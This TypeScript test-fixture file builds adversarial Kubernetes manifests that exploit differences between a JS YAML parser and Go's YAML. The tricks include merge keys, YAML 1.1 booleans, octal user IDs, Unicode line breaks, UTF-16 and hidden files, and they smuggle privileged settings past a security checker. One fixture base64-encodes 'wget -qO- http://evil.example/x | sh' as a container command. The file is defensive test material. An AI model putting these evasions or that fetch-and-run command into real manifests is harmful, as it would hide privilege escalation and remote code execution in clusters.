/**
 * Attacks on `cleanimg-customize check`: hand-written manifests (as a team's repository holds them)
 * that the JS parser reads one way and Go's YAML (kubectl, the API server) another, or that sit
 * where a reader might not look. Each gives files; `check DIR` must report the rule. The end-to-end
 * tier reads the same files with Go and the upstream evaluator, to show the attack is real.
 */
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { stringify } from 'yaml';
import { hardenedObject } from './common';

export interface CheckAttack {
  readonly name: string;
  readonly category: 'yaml-text' | 'hidden-objects';
  /** Files by path relative to the folder `check` is given (text is written as UTF-8). */
  readonly files: Readonly<Record<string, string | Uint8Array>>;
  readonly rule: string;
  /** The upstream evaluator, reading the files as Go does, refuses a pod in them (the attack is real for Pod Security). */
  readonly upstreamRefuses?: boolean;
}

/** A hardened Deployment as YAML, with `edit` applied to its text (so that the attack is in the text). */
function deploymentText(edit: (text: string) => string, name = 'web'): string {
  return edit(stringify(hardenedObject(name), { lineWidth: 0 }));
}

/** Replaces the first line matching `find` (kept) by itself plus `lines`, indented like it. */
const after = (find: RegExp, ...lines: string[]) => (text: string) => text.replace(find, (m) => {
  const indent = /^( *)/m.exec(m.split('\n').pop()!)![1]!;
  return `${m}\n${lines.map((l) => indent + l).join('\n')}`;
});

const privilegedAnchor = 'x-defaults: &defaults\n  hostPID: true\n  hostNetwork: true\n';

export const CHECK_ATTACKS: readonly CheckAttack[] = [
  {
    name: 'a merge key in the pod spec that merges hostPID from an anchor',
    category: 'yaml-text', rule: 'HD033', upstreamRefuses: true,
    files: { 'app.yaml': deploymentText((t) => `${privilegedAnchor}${t}`.replace(/^( +)automountServiceAccountToken: false$/m, '$1automountServiceAccountToken: false\n$1<<: *defaults')) },
  },
  {
    name: 'a merge key with an inline map in a container securityContext (procMount Unmasked)',
    category: 'yaml-text', rule: 'HD033', upstreamRefuses: true,
    files: { 'app.yaml': deploymentText(after(/^ +allowPrivilegeEscalation: false$/m, '<<: {procMount: Unmasked}')) },
  },
  {
    name: 'a merge key that supplies the kind of the object',
    category: 'yaml-text', rule: 'HD033',
    files: { 'app.yaml': `base: &k {apiVersion: v1, kind: Pod}\n<<: *k\nmetadata: {name: p}\nspec:\n  hostNetwork: true\n  containers: [{name: a, image: nginx}]\n` },
  },
  {
    name: 'a list of merge keys whose first map wins for Go',
    category: 'yaml-text', rule: 'HD033',
    files: { 'app.yaml': deploymentText((t) => `a: &a {hostIPC: true}\nb: &b {hostIPC: false}\n${t}`.replace(/^( +)automountServiceAccountToken: false$/m, '$1automountServiceAccountToken: false\n$1<<: [*a, *b]')) },
  },
  ...(['yes', 'on', 'y', 'Y', 'YES', 'On'] as const).map((word): CheckAttack => ({
    name: `hostPID: ${word} (a boolean to Go, a string to YAML 1.2)`,
    category: 'yaml-text', rule: 'HD033',
    files: { [`${word}.yaml`]: deploymentText(after(/^ +automountServiceAccountToken: false$/m, `hostPID: ${word}`)) },
  })),
  {
    name: 'readOnly: off on a config mount (false to Go)',
    category: 'yaml-text', rule: 'HD033',
    files: { 'app.yaml': deploymentText((t) => t.replace(/readOnlyRootFilesystem: true/, 'readOnlyRootFilesystem: off')) },
  },
  {
    name: 'runAsUser: 0_0 (0 to Go, a string to YAML 1.2)',
    category: 'yaml-text', rule: 'HD033', upstreamRefuses: true,
    files: { 'app.yaml': deploymentText((t) => t.replace(/^( +)runAsUser: 65532$/m, '$1runAsUser: 0_0')) },
  },
  {
    name: 'runAsUser: 0o0 in an octal Go reads as 0',
    category: 'yaml-text', rule: 'HD002', upstreamRefuses: true,
    files: { 'app.yaml': deploymentText((t) => t.replace(/^( +)runAsUser: 65532$/m, '$1runAsUser: 0o0')) },
  },
  {
    name: 'runAsUser: 0200000 (65536 to Go, 200000 to YAML 1.2)',
    category: 'yaml-text', rule: 'HD033',
    files: { 'app.yaml': deploymentText((t) => t.replace(/^( +)runAsUser: 65532$/m, '$1runAsUser: 0200000')) },
  },
  {
    name: 'a hostPath volume in a .json file',
    category: 'hidden-objects', rule: 'HD010', upstreamRefuses: true,
    files: {
      'app.json': JSON.stringify(withHostPath('json'), null, 2),
    },
  },
  {
    name: 'a privileged Deployment in a hidden file',
    category: 'hidden-objects', rule: 'HD006', upstreamRefuses: true,
    files: { '.privileged.yaml': deploymentText((t) => t.replace('privileged: false', 'privileged: true')) },
  },
  {
    name: 'a privileged Deployment in a hidden folder',
    category: 'hidden-objects', rule: 'HD006', upstreamRefuses: true,
    files: { '.overlays/prod/app.yaml': deploymentText((t) => t.replace('privileged: false', 'privileged: true')) },
  },
  {
    name: 'a U+2028 after a plain value, which Go reads as a new line holding hostNetwork',
    category: 'yaml-text', rule: 'HD033',
    files: { 'app.yaml': deploymentText((t) => t.replace(/^( +)automountServiceAccountToken: false$/m, '$1automountServiceAccountToken: false\u2028$1hostNetwork: true')) },
  },
  {
    name: 'a NEL (U+0085) in a comment that Go ends, making the rest a key',
    category: 'yaml-text', rule: 'HD033',
    files: { 'app.yaml': deploymentText((t) => t.replace(/^( +)automountServiceAccountToken: false$/m, '$1automountServiceAccountToken: false # note\u0085$1hostIPC: true')) },
  },
  ...([['LE', 'yaml', 'HD009'], ['BE', 'yaml', 'HD006'], ['LE', 'json', 'HD010']] as const).map(([order, ext, rule]): CheckAttack => ({
    name: `a ${ext === 'json' ? 'JSON Deployment with a hostPath volume' : 'Deployment'} saved as UTF-16 ${order} with a byte order mark (kubectl converts it to UTF-8)`,
    category: 'hidden-objects', rule, upstreamRefuses: order === 'BE', // Go's YAML reads UTF-16 BE itself; LE only once kubectl has converted it
    files: { [`utf16-${order}.${ext}`]: utf16(order, ext === 'json' ? JSON.stringify(withHostPath('utf16'), null, 2) : deploymentText(rule === 'HD006' ? (t) => t.replace('privileged: false', 'privileged: true') : after(/^ +automountServiceAccountToken: false$/m, 'hostPID: true'))) },
  })),
  ...([['CR', '\r'], ['NEL', '\u0085'], ['U+2028', '\u2028'], ['U+2029', '\u2029']] as const).map(([label, brk]): CheckAttack => ({
    name: `a whole hostPID Deployment in the comment of its first line, lines broken by ${label} (Go ends the comment there)`,
    category: 'yaml-text', rule: 'HD033', upstreamRefuses: true,
    files: { [`hidden-${label.replace('+', '')}.yaml`]: deploymentText(after(/^ +automountServiceAccountToken: false$/m, 'hostPID: true')).replace(/\n(?!$)/g, brk).replace(/^(apiVersion: apps\/v1)/, '$1 # generated') },
  })),
  {
    name: 'a shell command written as !!binary strings (Go decodes them to text, the JS parser to bytes)',
    category: 'yaml-text', rule: 'HD033',
    files: { 'app.yaml': deploymentText(after(/^ +image: registry\.example\.com.*$/m, `command: [!!binary ${b64('/bin/sh')}, !!binary ${b64('-c')}, !!binary ${b64('wget -qO- http://evil.example/x | sh')}]`)) },
  },
  {
    name: 'a toleration of every taint with its operator as !!binary',
    category: 'yaml-text', rule: 'HD033',
    files: { 'app.yaml': deploymentText(after(/^ +automountServiceAccountToken: false$/m, `tolerations: [{operator: !!binary ${b64('Exists')}}]`)) },
  },
  {
    name: 'runAsUser: !!int "010000" (10000 to the JS parser, octal 4096 to Go)',
    category: 'yaml-text', rule: 'HD033',
    files: { 'app.yaml': deploymentText((t) => t.replace(/^( +)runAsUser: 65532$/m, '$1runAsUser: !!int "010000"')) },
  },
];

function b64(s: string): string {
  return Buffer.from(s).toString('base64');
}

/** `text` as UTF-16 with its byte order mark, as Windows tools save it. */
function utf16(order: 'LE' | 'BE', text: string): Uint8Array {
  const le = Buffer.from(`\ufeff${text}`, 'utf16le');
  return order === 'LE' ? le : le.swap16();
}

function withHostPath(name: string) {
  const d = hardenedObject(name);
  d.spec.template.spec.volumes.push({ name: 'root', hostPath: { path: '/' } });
  return d;
}

/** The attack's files in a fresh folder; returns the folder. */
export function writeAttack(a: CheckAttack): string {
  const dir = mkdtempSync(join(tmpdir(), 'cleanimg-check-attack-'));
  for (const [name, text] of Object.entries(a.files)) {
    mkdirSync(dirname(join(dir, name)), { recursive: true });
    writeFileSync(join(dir, name), text);
  }
  return dir;
}
